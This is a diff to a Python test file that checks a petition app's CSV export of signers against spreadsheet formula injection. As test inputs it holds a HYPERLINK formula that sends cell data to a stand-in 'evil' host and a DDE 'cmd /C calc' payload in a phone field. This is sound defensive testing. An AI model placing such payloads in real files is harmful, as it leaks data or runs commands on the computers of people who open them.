@@ -10,30 +10,37 @@ from sqlalchemy import insert
 
 from desktop.core.errors import DeliveryError, OutputError
 from desktop.core.progress import Progress
-from desktop.petition.export import export_people
 from desktop.petition.review.decisions import decide
 from desktop.petition.review.selection import Conditions
 from desktop.petition.tables.arrived import consent
 from tests.support.crowd import UPDATES, Person, id_of, put, switch, wipe
+from tests.support.exporting import export_csv
+from tests.support.packs import keep
 
 MAIL = "ann@example.org"
 LATE = "2026-08-24T12:00:00Z"
 
 
 def rows(path) -> list[dict[str, str]]:
-    with path.open(encoding="utf-8", newline="") as file:
+    with path.open(encoding="utf-8-sig", newline="") as file:
         return list(csv.DictReader(file))
+
+
+def begun(new_petition):
+    petition = new_petition()
+    keep(petition)
+    return petition
 
 
 def exported(petition, folder) -> list[dict[str, str]]:
     path = folder / "people.csv"
     path.unlink(missing_ok=True)
-    assert export_people(petition, path, by="kb") == len(rows(path))
+    assert export_csv(petition, path, by="kb") == len(rows(path))
     return rows(path)
 
 
 def test_everybody_who_is_counted_is_there_once_and_nobody_else(new_petition, tmp_path):
-    petition = new_petition()
+    petition = begun(new_petition)
     put(petition, 1, [Person("Ann", "Lee", MAIL), Person("Ann", "Lee", MAIL, signed_at=LATE)], event_place='Hall "B"')
     put(petition, 2, [Person("Bo", "Lee", MAIL, "FR", signed_at=LATE), Person("Cem", "Roe"), Person("Dee", "Roe")])
     decide(petition, "invalid", "prank", Conditions(numbers=(2001,)), by="kb")
@@ -47,7 +54,7 @@ def test_everybody_who_is_counted_is_there_once_and_nobody_else(new_petition, tm
 
 
 def test_the_strongest_consent_comes_with_its_own_proof_and_not_asked_is_never_yes(new_petition, tmp_path):
-    petition = new_petition()
+    petition = begun(new_petition)
     yes = Person("Ann", "Lee", MAIL, signed_at=LATE, updates="yes", language="fr")
     put(
         petition,
@@ -71,6 +78,7 @@ CELLS = st.text(st.sampled_from("=+-@＝Aé王 ',\";|\\%s\x7f"), min_size=1, max
 def test_every_cell_reads_back_as_it_was_and_none_begins_a_formula(kept_export, cells):
     petition, folder = kept_export
     wipe(petition)
+    keep(petition)
     put(petition, 1, [Person(cell, cell, phone=cell) for cell in cells])
     for cell, row in zip(cells, exported(petition, folder), strict=True):
         guard = "'" if cell[0] in "=+-@＝" else ""
@@ -80,7 +88,7 @@ def test_every_cell_reads_back_as_it_was_and_none_begins_a_formula(kept_export, 
 
 @pytest.fixture
 def kept_export(new_petition, tmp_path):
-    return new_petition(), tmp_path
+    return begun(new_petition), tmp_path
 
 
 def ask(petition, number: int, *requests: str, answer: str = "yes") -> None:
@@ -92,7 +100,7 @@ def ask(petition, number: int, *requests: str, answer: str = "yes") -> None:
 
 
 def test_any_number_of_requests_is_exported_on_every_engine(new_petition, tmp_path):
-    petition = new_petition()
+    petition = begun(new_petition)
     put(
         petition,
         1,
@@ -112,12 +120,12 @@ def test_any_number_of_requests_is_exported_on_every_engine(new_petition, tmp_pa
 
 
 def test_a_hostile_name_of_a_request_is_one_heading_and_no_formula(new_petition, tmp_path):
-    petition = new_petition()
+    petition = begun(new_petition)
     put(petition, 1, [Person("Ann"), Person("Bo")])
     hostile = 'x,=HYPERLINK("http://evil/?"&A2,"click")'
     ask(petition, 1000, hostile)
     exported(petition, tmp_path)
-    with (tmp_path / "people.csv").open(encoding="utf-8", newline="") as file:
+    with (tmp_path / "people.csv").open(encoding="utf-8-sig", newline="") as file:
         heading, *lines = list(csv.reader(file))
     assert {len(line) for line in lines} == {len(heading)}
     assert [each for each in heading if each.startswith(("=", "+", "-", "@"))] == []
@@ -125,7 +133,7 @@ def test_a_hostile_name_of_a_request_is_one_heading_and_no_formula(new_petition,
 
 
 def test_what_was_asked_in_an_undone_merge_alone_has_no_column(new_petition, tmp_path):
-    petition = new_petition()
+    petition = begun(new_petition)
     put(petition, 1, [Person("Ann")])
     put(petition, 2, [Person("Bo")])
     ask(petition, 2000, "gone")
@@ -135,23 +143,23 @@ def test_what_was_asked_in_an_undone_merge_alone_has_no_column(new_petition, tmp
 
 
 def test_a_phone_number_stays_one_and_a_formula_that_looks_like_one_does_not_run(new_petition, tmp_path):
-    petition = new_petition()
+    petition = begun(new_petition)
     put(petition, 1, [Person("Ann", phone="+16135550187"), Person("Bo", phone="+1+cmd|' /C calc'!A0")])
     assert [row["phone"] for row in exported(petition, tmp_path)] == ["+16135550187", "'+1+cmd|' /C calc'!A0"]
 
 
 def test_only_its_writer_can_read_the_file_and_none_is_ever_replaced(new_petition, tmp_path):
-    petition = new_petition()
+    petition = begun(new_petition)
     path = tmp_path / "people.csv"
     with pytest.raises(DeliveryError, match="nothing to export"):
-        export_people(petition, path, by="kb")
+        export_csv(petition, path, by="kb")
     assert list(tmp_path.glob("people.csv*")) == []
     put(petition, 1, [Person("Ann")])
     told: list[Progress] = []
-    assert export_people(petition, path, by="kb", report=told.append) == 1
+    assert export_csv(petition, path, by="kb", report=told.append) == 1
     assert [(each.unit, each.done, each.total) for each in told] == [("people", 0, 1), ("people", 1, 1)]
     assert stat.S_IMODE(path.stat().st_mode) == 0o600
     before = path.read_bytes()
     with pytest.raises(OutputError, match="there already"):
-        export_people(petition, path, by="kb")
+        export_csv(petition, path, by="kb")
     assert path.read_bytes() == before
